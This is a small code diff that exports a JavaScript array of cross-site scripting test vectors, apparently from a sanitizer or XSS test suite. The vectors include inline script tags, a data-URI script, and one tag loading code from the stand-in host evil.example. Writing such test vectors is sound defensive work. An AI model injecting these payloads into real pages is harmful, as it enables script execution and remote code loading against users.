@@ -3,7 +3,7 @@
 
 const RUN = 'window.hacked=1'
 
-const VECTORS = [
+export const VECTORS = [
   `<script>${RUN}</script>`,
   `<script src=//evil.example/x.js></script>`,
   `<SCRIPT/SRC="data:text/javascript,${RUN}">`,
